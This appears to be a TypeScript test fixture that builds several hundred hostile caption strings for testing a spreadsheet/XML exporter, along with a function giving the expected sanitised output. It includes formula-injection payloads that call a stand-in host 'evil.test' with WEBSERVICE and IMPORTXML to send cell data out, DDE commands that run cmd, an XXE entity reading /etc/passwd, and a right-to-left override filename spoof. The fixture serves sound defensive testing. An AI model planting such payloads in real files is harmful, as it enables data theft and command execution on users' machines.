// What people may write under a post to break whoever shows it (V13): one corpus for every output.
import { awkwardTexts } from "./sample-model.ts";

const STARTS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  "|",
  "%",
  "'=",
  '"=',
  " =",
  "＝",
  "\uFEFF=",
  "\u200B=",
  "\u0001=",
];
const PAYLOADS = [
  `HYPERLINK("https://evil.test","click")`,
  `cmd|' /C calc'!A0`,
  `WEBSERVICE("https://evil.test/"&A1)`,
  "1+1",
  `IMPORTXML(CONCAT("https://evil.test",A1),"//a")`,
  "SUM(A1:A9)*2",
  `DDE("cmd";"/C calc";"x")`,
  "-5",
];
const MARKUP = [
  "</t></is></c></row></sheetData>",
  "<![CDATA[x]]>",
  "]]>",
  "<!-- x -->",
  "&lt;b&gt;",
  "&#0;&#x1;&#xD800;",
  "<f>1+1</f>",
  `"><c r="A1" t="str"><v>x</v></c>`,
  "<?xml version='1.0'?>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
];
const ESCAPES = ["_x0041_", "_x000D_", "_X0000_", "__x005F_x0041_", "_x005F_", "_x12_", "x_xFFFF_y"];
const CHARACTERS = [
  "\uD800",
  "a\uDC00b",
  "\uFFFE",
  "\uFFFF",
  "\u{1FFFE}",
  "\u202Egnp.exe\u202C",
  "\u2066x\u2069",
  "\u2028\u2029",
  "\u0085\u00A0\u00AD",
  "a\u0301".repeat(40),
  "Z\u0351\u036F\u0488".repeat(60),
  "\u200B\u200C\u200D\u2060",
  "👩🏽‍💻🏳️‍🌈",
  "\r\n\r\nline\rline\n",
  "  leading and trailing  ",
  "00123",
  "1e5",
  "2026-11-16",
  "TRUE",
  "#N/A",
  "#REF!",
];
const LONG = [
  "x".repeat(32_767),
  "x".repeat(32_768),
  "y".repeat(40_000),
  `${"a".repeat(32_765)}👩🏽‍💻tail`,
  `${"b".repeat(32_766)}😀`,
  "😀".repeat(20_000),
  `${"=1+1,".repeat(9_000)}`,
];
const controls = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).flatMap((control) => [
  `${control}start`,
  `mid${control}dle`,
  `end${control}`,
]);
/** Over three hundred: controls, formulas, markup, escapes, odd characters, lengths, every awkward text of the sample. */
export const captions: readonly string[] = [
  ...controls,
  ...STARTS.flatMap((start) => PAYLOADS.map((payload) => `${start}${payload}`)),
  ...MARKUP.flatMap((markup) => [markup, `caption ${markup} caption`, `=${markup}`]),
  ...ESCAPES,
  ...CHARACTERS.flatMap((characters) => [characters, `before ${characters} after`]),
  ...LONG,
  ...Object.values(awkwardTexts),
];

/** What should stand there, told apart from the code: XML 1.0's characters, no direction overrides, "\n" line ends. */
export function toExpected(caption: string): string {
  let text = "";
  for (const character of caption.replaceAll("\r\n", "\n").replaceAll("\r", "\n")) {
    const code = character.codePointAt(0) ?? 0;
    if (code >= 0xd800 && code <= 0xdfff) text += "\uFFFD";
    else if ((code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069)) continue;
    else if (code < 0x20 && code !== 9 && code !== 10) continue;
    else if ((code >= 0x7f && code <= 0x9f) || code === 0xfffe || code === 0xffff) continue;
    else text += character;
  }
  return text;
}
